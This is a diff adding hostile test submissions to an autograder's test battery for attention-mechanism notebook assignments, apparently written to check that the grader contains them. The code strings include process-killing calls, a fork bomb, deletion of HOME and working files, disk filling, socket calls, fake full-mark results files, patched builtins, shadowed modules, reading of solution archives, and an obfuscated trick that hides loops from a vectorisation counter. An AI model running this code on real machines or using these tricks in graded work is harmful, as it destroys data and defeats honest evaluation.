@@ -383,3 +383,409 @@ def _():
 def _():
     data = ipynb(reference())[1]
     return _zip([("reference.ipynb", data[:-1] + b" " * (200 << 20) + data[-1:])])
+
+
+# == more cases: each family of the issue, and the other two assignments ===========
+# Filled in by the battery before the cases are built: a TCP port on which the
+# judge's side listens (no case may reach it) and an autograder-like zip in the
+# battery's own temporary folder (no case may read it).
+BATTERY = {"port": 9, "zip": "/nonexistent/autograder.zip"}
+CLASSIC = "classic_attention"
+MULTI = "multi_head"
+CLASSIC_QS = ("masked_softmax", "additive_attention", "dot_attention", "general_attention", "concat_attention")
+MULTI_QS = ("split_heads", "merge_heads", "multi_head_attention")
+
+
+def others_of(questions, *lost):
+    return [q for q in questions if q not in lost]
+
+
+# -- resources, continued ------------------------------------------------------------
+@case("kill_self", "causal_mask sends SIGKILL to its own process", max_score=8, questions_zero=["causal_mask"],
+      questions_keep_full=others("causal_mask"), reason_contains=["signal 9"])
+def _():
+    return ipynb(replace_function(reference(demo=False), "causal_mask", (
+        "def causal_mask(seq_len, device=None):\n    import os, signal\n    os.kill(os.getpid(), signal.SIGKILL)\n")))
+
+
+@case("kill_process_group", "padding_mask sends SIGKILL to its whole process group", max_score=8,
+      questions_zero=["padding_mask"], questions_keep_full=others("padding_mask"), reason_contains=["signal 9"])
+def _():
+    return ipynb(replace_function(reference(demo=False), "padding_mask", (
+        "def padding_mask(lengths, max_len=None):\n    import os, signal\n    os.killpg(0, signal.SIGKILL)\n")))
+
+
+@case("fill_workdir", "causal_mask deletes every file it can reach from its working directory and HOME, "
+      "fills the disk with 1 MB files until writing fails, then answers", max_score=10,
+      questions_keep_full=list(SDP_QS))
+def _():
+    return ipynb(replace_function(reference(demo=False), "causal_mask", (
+        "def causal_mask(seq_len, device=None):\n"
+        "    import os, shutil\n"
+        "    for top in {os.getcwd(), os.path.expanduser('~'), os.path.dirname(os.getcwd())}:\n"
+        "        for name in ['progress', 'output.txt', 'work'] + (os.listdir(top) if os.access(top, os.R_OK) else []):\n"
+        "            p = os.path.join(top, name)\n"
+        "            try:\n"
+        "                shutil.rmtree(p) if os.path.isdir(p) else os.remove(p)\n"
+        "            except OSError:\n"
+        "                pass\n"
+        "    for i in range(100000):\n"
+        "        try:\n"
+        "            with open(f'fill{i}', 'wb') as f:\n"
+        "                f.write(b'x' * 150000)\n"
+        "        except OSError:\n"
+        "            break\n"
+        + CORRECT_CAUSAL)))
+
+
+@case("background_thread", "causal_mask answers correctly but leaves a thread burning CPU and printing "
+      "after it returns", max_score=10, questions_keep_full=list(SDP_QS), reason_contains=["left threads"])
+def _():
+    return ipynb(replace_function(reference(demo=False), "causal_mask", (
+        "def causal_mask(seq_len, device=None):\n"
+        "    import threading\n"
+        "    def spin():\n"
+        "        while True:\n"
+        "            print('spam', flush=True)\n"
+        "    threading.Thread(target=spin, daemon=True).start()\n"
+        + CORRECT_CAUSAL)))
+
+
+@case("background_process", "padding_mask answers correctly but leaves a double-forked, setsid daemon that "
+      "waits 1 s, then SIGKILLs every process it may and burns CPU (a slow call may be killed by its own "
+      "daemon: only the other questions must keep their points)", max_score=10,
+      questions_keep_full=others("padding_mask"),
+      reason_contains=["left threads"], root_only=ROOT_WHY)
+def _():
+    return ipynb(replace_function(reference(demo=False), "padding_mask", (
+        "def padding_mask(lengths, max_len=None):\n"
+        "    import os, time\n"
+        "    if os.fork() == 0:\n"
+        "        os.setsid()\n"
+        "        if os.fork() == 0:\n"
+        "            time.sleep(1)\n"
+        "            try:\n"
+        "                os.kill(-1, 9)\n"
+        "            except OSError:\n"
+        "                pass\n"
+        "            while True:\n"
+        "                pass\n"
+        "        os._exit(0)\n"
+        "    time.sleep(0.1)\n"
+        "    n = int(lengths.max()) if max_len is None else max_len\n"
+        "    return torch.arange(n, device=lengths.device)[None, :] < lengths[:, None]\n")))
+
+
+@case("network", "causal_mask connects to a port the judge's machine listens on and to a public address, "
+      "sending its name; then answers", max_score=10, questions_keep_full=list(SDP_QS), no_network=True,
+      root_only=ROOT_WHY)
+def _():
+    return ipynb(replace_function(reference(demo=False), "causal_mask", (
+        "def causal_mask(seq_len, device=None):\n"
+        "    import socket\n"
+        f"    for addr in (('127.0.0.1', {BATTERY['port']}), ('1.1.1.1', 53)):\n"
+        "        try:\n"
+        "            with socket.create_connection(addr, timeout=1) as s:\n"
+        "                s.sendall(b'network')\n"
+        "        except OSError:\n"
+        "            pass\n"
+        + CORRECT_CAUSAL)))
+
+
+# -- tampering, continued ----------------------------------------------------------------
+@case("edit_test_cells", "wrong functions; otter's tests in the notebook metadata rewritten to pass, "
+      "grader.check replaced by a function printing 'passed'", not_above="wrong_functions", max_score=9.99)
+def _():
+    nb = wrong(reference())
+    tests = (nb.get("metadata", {}).get("otter", {}) or {}).get("tests", {})
+    for name in list(tests):
+        tests[name] = {"name": name, "points": 100, "suites": [{"cases": [{"code": ">>> True\nTrue", "hidden": False,
+                                                                           "locked": False}], "type": "doctest"}]}
+    nb["cells"].insert(1, code_cell("class _G:\n    def check(self, *a, **k):\n        print('passed')\n"
+                                    "    check_all = check\ngrader = _G()\n"))
+    return ipynb(nb)
+
+
+@case("patch_builtins", "wrong functions, then a cell patching isinstance, len, abs, max, min, round, float "
+      "and print in builtins", not_above="wrong_functions", max_score=9.99)
+def _():
+    return ipynb(append(wrong(reference(demo=False)), (
+        "import builtins\n"
+        "builtins.isinstance = lambda *a: True\nbuiltins.len = lambda *a: 0\nbuiltins.abs = lambda *a: 0\n"
+        "builtins.max = lambda *a, **k: 0\nbuiltins.min = lambda *a, **k: 0\nbuiltins.round = lambda *a, **k: 0\n"
+        "builtins.float = lambda *a: 0.0\nbuiltins.print = lambda *a, **k: None\n")))
+
+
+@case("torch_state", "correct functions, then a cell changing seeds, float32 matmul precision, "
+      "deterministic mode, denormal flushing and print options", max_score=10, questions_keep_full=list(SDP_QS))
+def _():
+    return ipynb(append(reference(), (
+        "torch.manual_seed(1234)\ntorch.set_float32_matmul_precision('medium')\n"
+        "torch.use_deterministic_algorithms(True)\ntorch.set_flush_denormal(True)\n"
+        "torch.set_printoptions(precision=1)\n")))
+
+
+@case("write_result_files", "wrong functions; causal_mask writes a full-marks results.json and grades.csv "
+      "into every folder it can reach (working directory, HOME, /tmp, /autograder/results, the kit, "
+      "the batch's output folders)", not_above="wrong_functions", max_score=9.99, root_only=ROOT_WHY)
+def _():
+    return ipynb(replace_function(wrong(reference(demo=False)), "causal_mask", (
+        "def causal_mask(seq_len, device=None):\n"
+        "    import glob, json, os\n"
+        "    fake = json.dumps({'score': 999, 'tests': [{'name': q, 'score': 999, 'max_score': 1} for q in\n"
+        "                       ('causal_mask', 'padding_mask', 'scaled_dot_product_attention')]})\n"
+        f"    dirs = {{os.getcwd(), os.path.expanduser('~'), '/tmp', '/autograder/results', {str(KIT_ROOT)!r}}}\n"
+        "    dirs |= set(glob.glob('/tmp/kit-hostile-*/out/*')) | set(glob.glob('/tmp/*/'))\n"
+        "    for d in dirs:\n"
+        "        for name, text in (('results.json', fake), ('grades.csv', 'id,score\\nall,999\\n')):\n"
+        "            try:\n"
+        "                os.makedirs(d, exist_ok=True)\n"
+        "                with open(os.path.join(d, name), 'w') as f:\n"
+        "                    f.write(text)\n"
+        "            except OSError:\n"
+        "                pass\n"
+        "    return torch.zeros(seq_len, seq_len, dtype=torch.bool, device=device)\n")))
+
+
+@case("lying_object", "wrong functions returning objects that claim a tensor's shape and dtype and "
+      "compare equal to anything", not_above="wrong_functions", max_score=9.99)
+def _():
+    return ipynb(append(wrong(reference()), '''
+class Anything:
+    def __init__(self, like):
+        self.shape, self.dtype, self.device = like.shape, like.dtype, like.device
+    def __eq__(self, other):
+        return True
+    def __getattr__(self, name):
+        return lambda *a, **k: self
+_wrong = (causal_mask, padding_mask, scaled_dot_product_attention)
+def causal_mask(seq_len, device=None):
+    return Anything(_wrong[0](seq_len, device))
+def padding_mask(lengths, max_len=None):
+    return Anything(_wrong[1](lengths, max_len))
+def scaled_dot_product_attention(query, key, value, mask=None):
+    o, w = _wrong[2](query, key, value, mask)
+    return Anything(o), Anything(w)
+'''))
+
+
+# -- wrong return values, continued -----------------------------------------------------
+@case("float_return", "scaled_dot_product_attention returns a Python float", max_score=4,
+      questions_zero=["scaled_dot_product_attention"], questions_keep_full=others("scaled_dot_product_attention"),
+      reason_contains=["float"])
+def _():
+    return ipynb(replace_function(reference(demo=False), "scaled_dot_product_attention", (
+        "def scaled_dot_product_attention(query, key, value, mask=None):\n    return 0.5\n")))
+
+
+@case("wrong_dtype", "causal_mask returns the right values as float32 instead of bool", max_score=9.99,
+      questions_lose=["causal_mask"], questions_keep_full=others("causal_mask"), reason_contains=["bool"])
+def _():
+    return ipynb(replace_function(reference(demo=False), "causal_mask", (
+        "def causal_mask(seq_len, device=None):\n"
+        "    return torch.ones(seq_len, seq_len, device=device).tril()\n")))
+
+
+@case("wrong_device", "padding_mask always returns its mask on the meta device", max_score=9.99,
+      questions_lose=["padding_mask"], questions_keep_full=others("padding_mask"), reason_contains=["meta"])
+def _():
+    return ipynb(replace_function(reference(demo=False), "padding_mask", (
+        "def padding_mask(lengths, max_len=None):\n    n = int(lengths.max()) if max_len is None else max_len\n"
+        "    return (torch.arange(n)[None, :] < lengths[:, None].cpu()).to('meta')\n")))
+
+
+@case("inf_return", "scaled_dot_product_attention returns +inf weights", max_score=4,
+      questions_zero=["scaled_dot_product_attention"], questions_keep_full=others("scaled_dot_product_attention"))
+def _():
+    return ipynb(replace_function(reference(demo=False), "scaled_dot_product_attention", (
+        "def scaled_dot_product_attention(query, key, value, mask=None):\n"
+        "    w = torch.full((*query.shape[:-1], key.shape[-2]), float('inf'), dtype=query.dtype, device=query.device)\n"
+        "    return w @ value, w\n")))
+
+
+@case("generator_return", "causal_mask returns a generator of rows", max_score=8, questions_zero=["causal_mask"],
+      questions_keep_full=others("causal_mask"), reason_contains=["generator"])
+def _():
+    return ipynb(replace_function(reference(demo=False), "causal_mask", (
+        "def causal_mask(seq_len, device=None):\n"
+        "    m = torch.ones(seq_len, seq_len, dtype=torch.bool, device=device).tril()\n"
+        "    return (row for row in m)\n")))
+
+
+# -- information leaks, continued ---------------------------------------------------------
+@case("read_autograder_zip", "causal_mask looks for the autograder zip on disk (the battery left one with the "
+      "solutions in its temporary folder) and lists the kit's solutions folder, raising what it found",
+      max_score=8, questions_zero=["causal_mask"], questions_keep_full=others("causal_mask"),
+      leak_files=["solutions/scaled_dot_product.py"], must_not_contain=["scaled_dot_product.py"],
+      root_only=ROOT_WHY)
+def _():
+    return ipynb(replace_function(reference(demo=False), "causal_mask", (
+        "def causal_mask(seq_len, device=None):\n"
+        "    import glob, os, zipfile\n"
+        "    found = []\n"
+        f"    for z in [{BATTERY['zip']!r}] + glob.glob('/tmp/**/*.zip', recursive=True) + glob.glob('/autograder/**/*.zip'):\n"
+        "        try:\n"
+        "            with zipfile.ZipFile(z) as zf:\n"
+        "                found += [zf.read(n).decode() for n in zf.namelist()]\n"
+        "        except (OSError, zipfile.BadZipFile):\n"
+        "            pass\n"
+        "    try:\n"
+        f"        found += os.listdir({str(KIT_ROOT / 'solutions')!r})\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "    raise RuntimeError(repr(found))\n")))
+
+
+@case("inspect_callers", "causal_mask raises an error holding every caller frame's locals and every tensor "
+      "the garbage collector can see", max_score=8, questions_zero=["causal_mask"],
+      questions_keep_full=others("causal_mask"),
+      leak_files=["solutions/scaled_dot_product.py", "autograder/suites/scaled_dot_product/test_causal_mask.py"])
+def _():
+    return ipynb(replace_function(reference(demo=False), "causal_mask", (
+        "def causal_mask(seq_len, device=None):\n"
+        "    import gc, inspect\n"
+        "    frames = [repr(f.frame.f_locals)[:2000] for f in inspect.stack()]\n"
+        "    tensors = [repr(o)[:200] for o in gc.get_objects() if isinstance(o, torch.Tensor)][:50]\n"
+        "    raise RuntimeError('\\n'.join(frames + tensors))\n")))
+
+
+# -- malformed input, continued -----------------------------------------------------------
+@case("foreign_kernel", "the notebook saved with an R kernel", max_score=0, reason_contains=["kernel"])
+def _():
+    nb = reference()
+    nb["metadata"]["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
+    nb["metadata"]["language_info"] = {"name": "R"}
+    return ipynb(nb)
+
+
+@case("wrong_file_name", "the reference notebook saved as 'Tarefa 2 - cópia (1).ipynb'", max_score=10,
+      questions_keep_full=list(SDP_QS), file_name="Tarefa 2 - cópia (1)")
+def _():
+    return ipynb(reference())
+
+
+@case("shadow_modules_zip", "a zip holding the notebook and torch.py, json.py, sitecustomize.py and "
+      "autograder/__init__.py that would replace the real modules", max_score=10,
+      questions_keep_full=list(SDP_QS))
+def _():
+    evil = b"raise SystemExit('shadowed')\n"
+    return _zip([("reference.ipynb", ipynb(reference())[1])] + [
+        (n, evil) for n in ("torch.py", "json.py", "sitecustomize.py", "autograder/__init__.py", "pytest.py")])
+
+
+@case("shadow_modules_cell", "a first cell writes torch.py, json.py and sitecustomize.py into its working "
+      "directory, HOME and /tmp and puts them first on sys.path; the functions are correct", max_score=10,
+      questions_keep_full=list(SDP_QS))
+def _():
+    nb = reference()
+    nb["cells"].insert(0, code_cell(
+        "import os, sys\n"
+        "for d in {os.getcwd(), os.path.expanduser('~'), '/tmp'}:\n"
+        "    for n in ('torch.py', 'json.py', 'sitecustomize.py', 'resource.py'):\n"
+        "        try:\n"
+        "            open(os.path.join(d, n), 'w').write(\"raise SystemExit('shadowed')\\n\")\n"
+        "        except OSError:\n"
+        "            pass\n"
+        "    sys.path.insert(0, d)\n"))
+    return ipynb(nb)
+
+
+@case("huge_file", "a 100 MB .ipynb (the notebook padded with whitespace)", max_score=0,
+      reason_contains=["over the"])
+def _():
+    data = ipynb(reference())[1]
+    return ".ipynb", data[:-1] + b" " * (100 << 20) + data[-1:]
+
+
+# -- the other two assignments ------------------------------------------------------------
+@case("classic_reference", "the correct classic-attention notebook (control)", assignment=CLASSIC,
+      max_score=17, questions_keep_full=list(CLASSIC_QS))
+def _():
+    return ipynb(reference(CLASSIC))
+
+
+@case("classic_loop_in_concat", "classic attention: an infinite loop inside concat_attention", assignment=CLASSIC,
+      max_score=14, questions_zero=["concat_attention"], questions_keep_full=others_of(CLASSIC_QS, "concat_attention"),
+      reason_contains=["CPU time limit", "timed out"])
+def _():
+    return ipynb(replace_function(reference(CLASSIC, demo=False), "concat_attention",
+                                  "def concat_attention(*args, **kwargs):\n    while True:\n        pass\n"))
+
+
+@case("classic_alloc_in_general", "classic attention: general_attention allocates 20 GB", assignment=CLASSIC,
+      max_score=14, questions_zero=["general_attention"],
+      questions_keep_full=others_of(CLASSIC_QS, "general_attention"), reason_contains=["general_attention"])
+def _():
+    return ipynb(replace_function(reference(CLASSIC, demo=False), "general_attention", (
+        "def general_attention(*args, **kwargs):\n"
+        "    return torch.ones(20 * 2**30, dtype=torch.uint8)\n")))
+
+
+@case("classic_patch_softmax", "classic attention: a last cell replaces torch.softmax, F.softmax and "
+      "Tensor.softmax with a uniform average", assignment=CLASSIC, max_score=17,
+      not_above="classic_reference")
+def _():
+    return ipynb(append(reference(CLASSIC), (
+        "import torch.nn.functional as F\n"
+        "def _uniform(x, dim=-1, *a, **k):\n    return torch.ones_like(x) / x.shape[dim]\n"
+        "torch.softmax = F.softmax = _uniform\ntorch.Tensor.softmax = _uniform\n")))
+
+
+@case("multi_reference", "the correct multi-head notebook (control)", assignment=MULTI, max_score=10,
+      questions_keep_full=list(MULTI_QS))
+def _():
+    return ipynb(reference(MULTI))
+
+
+@case("multi_fork_bomb_in_init", "multi-head: a fork bomb in MultiHeadAttention.__init__", assignment=MULTI,
+      max_score=4, questions_zero=["multi_head_attention"],
+      questions_keep_full=others_of(MULTI_QS, "multi_head_attention"), root_only=ROOT_WHY)
+def _():
+    nb = reference(MULTI, demo=False)
+    return ipynb(append(nb, (
+        "_Honest = MultiHeadAttention\n"
+        "class MultiHeadAttention(_Honest):\n"
+        "    def __init__(self, *a, **k):\n"
+        "        import os\n"
+        "        while True:\n"
+        "            try:\n"
+        "                os.fork()\n"
+        "            except OSError:\n"
+        "                pass\n")))
+
+
+@case("multi_loop_heads", "multi-head: an honest Python loop over the heads (control: loses the "
+      "vectorisation check)", assignment=MULTI, max_score=9.99, questions_lose=["multi_head_attention"],
+      questions_keep_full=others_of(MULTI_QS, "multi_head_attention"))
+def _():
+    return ipynb(append(reference(MULTI), _catalog_source(MULTI, "mha_loop_over_heads")))
+
+
+def _hidden_loop(switch_off):
+    source = _catalog_source(MULTI, "mha_loop_over_heads").replace(
+        "        outs, maps = [], []\n", f"        outs, maps = [], []\n        _off = {switch_off}\n        _off.__enter__()\n")
+    return ipynb(append(reference(MULTI), source))
+
+
+@case("multi_hide_loop_from_counter", "multi-head: the same loop over heads run inside "
+      "torch._C.DisableTorchFunction(), hiding its operations from the vectorisation counter", assignment=MULTI,
+      not_above="multi_loop_heads", max_score=9.99, reason_contains=["tracing internals"])
+def _():
+    return _hidden_loop("torch._C.DisableTorchFunction()")
+
+
+@case("multi_hide_loop_obfuscated", "multi-head: the same, with the names built from bytes at run time "
+      "so that no check of the source can see them", assignment=MULTI, not_above="multi_loop_heads", max_score=9.99,
+      gap="the vectorisation and from-scratch checks count torch calls inside the student's process; "
+          "deliberately obfuscated code that switches the counter off there passes them (values, shapes, "
+          "gradients, masks and dtypes are judged in the judge and are not affected)")
+def _():
+    return _hidden_loop("getattr(getattr(torch, bytes([95, 67]).decode()), bytes([68, 105, 115, 97, 98, 108, 101, 84, "
+                        "111, 114, 99, 104, 70, 117, 110, 99, 116, 105, 111, 110]).decode())()")
+
+
+def _catalog_source(assignment, entry):
+    """A catalog entry's code (its header and imports dropped), to append as a notebook cell."""
+    text = (KIT_ROOT / "autograder" / "audit" / "catalog" / assignment / f"{entry}.py").read_text()
+    body = text.split('"""', 2)[2]
+    return "\n".join(line for line in body.splitlines() if not line.startswith(("import ", "from ")))
